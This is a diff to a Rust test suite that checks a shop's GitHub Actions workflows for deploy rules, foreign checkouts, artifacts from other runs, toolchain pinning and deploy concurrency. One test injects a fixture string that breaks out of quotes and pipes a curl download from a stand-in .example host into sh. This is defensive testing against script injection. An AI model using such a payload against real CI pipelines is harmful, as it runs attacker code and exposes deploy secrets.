@@ -49,11 +49,16 @@ fn everything() -> Vec<(&'static str, Run)> {
 }
 
 fn lines(step: &Step) -> impl Iterator<Item = &str> {
-    step.script.as_deref().into_iter().flat_map(str::lines).map(str::trim).filter(|line| !line.starts_with('#'))
+    let is_run = |line: &&str| {
+        let prints = line.starts_with("echo ") && !line.contains("&&") && !line.contains(';');
+        !line.starts_with('#') && !prints
+    };
+    step.script.as_deref().into_iter().flat_map(str::lines).map(str::trim).filter(is_run)
 }
 
 fn is_test(line: &str) -> bool {
-    line.contains("cargo test") || line.contains("cargo nextest")
+    let runs = line.contains("cargo test") || line.contains("cargo nextest run");
+    runs && !line.contains("--no-run") && !line.starts_with("echo ")
 }
 
 fn is_build(line: &str) -> bool {
@@ -82,6 +87,23 @@ fn deploys(run: &Run) -> Vec<&Job> {
     run.begun().filter(|job| does(job, is_deploy)).collect()
 }
 
+/// What a job checks out that is not what its event is about, if it does.
+fn foreign_code(run: &Run, job: &Job) -> Option<String> {
+    let event = &run.event;
+    let step = job.begun().find(|step| {
+        let reference = step.input("ref").unwrap_or_default();
+        let is_own = ["", "github.sha", &event.reference, &event.words].contains(&reference.as_str());
+        let repository = step.input("repository").unwrap_or_default();
+        let is_shops = ["", "ferris-prints/shop"].contains(&repository.as_str()) || event.is_fork;
+        step.is("actions/checkout") && !(is_own && is_shops)
+    })?;
+    Some(format!(
+        "actions/checkout of the job {} has {}, which is not what this run is about; without a word it is",
+        job.id,
+        ["repository", "ref"].map(|name| format!("{name} {:?}", step.input(name).unwrap_or_default())).join(" and ")
+    ))
+}
+
 /// What keeps a job from deploying, if something does: no package, no credentials, no trust.
 fn hindrance(run: &Run, job: &Job) -> Option<String> {
     let (mut has_source, mut has_package, mut is_known) = (false, false, false);
@@ -98,6 +120,12 @@ fn hindrance(run: &Run, job: &Job) -> Option<String> {
             has_source = true;
         }
         if step.is("actions/download-artifact") {
+            let other = step.input("run-id").filter(|run| !run.is_empty() && run != "github.run_id");
+            if let Some(other) = other {
+                return Some(format!(
+                    "actions/download-artifact: what it takes was built in the run {other}, and not in this one"
+                ));
+            }
             let wanted = step.input("name");
             let is_there =
                 job.after.iter().filter_map(|before| run.job(before)).any(|before| uploads(before, wanted.as_deref()));
@@ -187,6 +215,7 @@ fn a_push_to_main_is_deployed() {
         jobs.len()
     );
     let hindrance = run.begun().find_map(missing_tool).or_else(|| hindrance(&run, jobs[0]));
+    let hindrance = hindrance.or_else(|| run.begun().find_map(|job| foreign_code(&run, job)));
     assert!(
         hindrance.is_none(),
         "the job {} does not come to its end:\n  {}",
@@ -208,6 +237,8 @@ fn every_change_is_tested() {
     );
     for (words, run) in tried {
         assert!(run.begun().any(|job| does(job, is_test)), "{words} is not tested: no script with cargo test runs");
+        let foreign = run.begun().find_map(|job| foreign_code(&run, job));
+        assert!(foreign.is_none(), "{words} is not what is tested:\n  {}", foreign.unwrap_or_default());
         let checked_out = run.begun().filter(|job| does(job, compiles)).all(|job| {
             job.may("contents", "read") && job.begun().next().is_some_and(|first| first.is("actions/checkout"))
         });
@@ -328,10 +359,18 @@ fn every_compiler_is_the_shops() {
                 if step.is("dtolnay/rust-toolchain") {
                     toolchain = step.input("toolchain");
                 }
-                let line = lines(step).find(|line| compiles(line));
-                if let Some(line) = line {
+                if let Some(other) = step.env.get("RUSTUP_TOOLCHAIN") {
+                    toolchain = Some(other.clone());
+                }
+                for line in lines(step) {
+                    let set = ["rustup default ", "rustup override set "];
+                    if let Some((_, other)) = set.iter().find_map(|command| line.split_once(command)) {
+                        toolchain = other.split_whitespace().next().map(str::to_owned);
+                    }
+                    let is_shops =
+                        toolchain.as_ref().is_some_and(|one| format!("{one}.").starts_with(&format!("{TOOLCHAIN}.")));
                     assert!(
-                        toolchain.as_deref() == Some(TOOLCHAIN),
+                        is_shops || !compiles(line),
                         "{words}: {line} in the job {} has the toolchain {}; the shop's is {TOOLCHAIN}",
                         job.id,
                         toolchain.as_deref().unwrap_or("that the machine happens to have")
@@ -346,16 +385,17 @@ fn every_compiler_is_the_shops() {
 fn the_words_of_strangers_reach_no_script() {
     assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
     let mut seed = Seed::at_run_time();
-    let words = format!("{}\"; curl https://{}.example | sh #", seed.name(), seed.name().to_lowercase());
+    let words = format!("{}'; $(curl https://{}.example | sh) #", seed.name(), seed.name().to_lowercase());
     for event in [Event::push("main"), Event::pull_request(false), Event::pull_request(true)] {
         let name = event.name.clone();
         let Some(run) = start(&event.saying(&words), &|_| false) else { continue };
         for job in &run.jobs {
-            let script =
-                job.steps.iter().filter_map(|step| step.script.as_deref()).find(|script| script.contains(&words));
+            // A script is also what `actions/github-script` gets.
+            let scripts = job.steps.iter().flat_map(|step| [step.script.clone(), step.input("script")]);
+            let script = scripts.flatten().find(|script| script.contains(&words));
             assert!(
                 script.is_none(),
-                "{name}: somebody writes {words}\n  the shell of the job {} gets\n  {}",
+                "{name}: somebody writes {words}\n  the script of the job {} is then\n  {}",
                 job.id,
                 script.unwrap_or_default()
             );
@@ -377,6 +417,11 @@ fn one_deploy_waits_for_another() {
         is_shared && !group.group.is_empty(),
         "each run has a group of its own, {:?}: two deploys run at once",
         group.group
+    );
+    let cancels_all = run.concurrency.as_ref().is_some_and(|whole| whole.cancels);
+    assert!(
+        !cancels_all,
+        "the concurrency of the workflow cancels the whole run, and with it the deploy in the middle, whatever the job says"
     );
     assert!(!group.cancels, "the second merge cancels the deploy of the first in the middle");
     assert!(jobs[0].outcome == Outcome::Succeeded, "the job {} ends with {:?}", jobs[0].id, jobs[0].outcome);
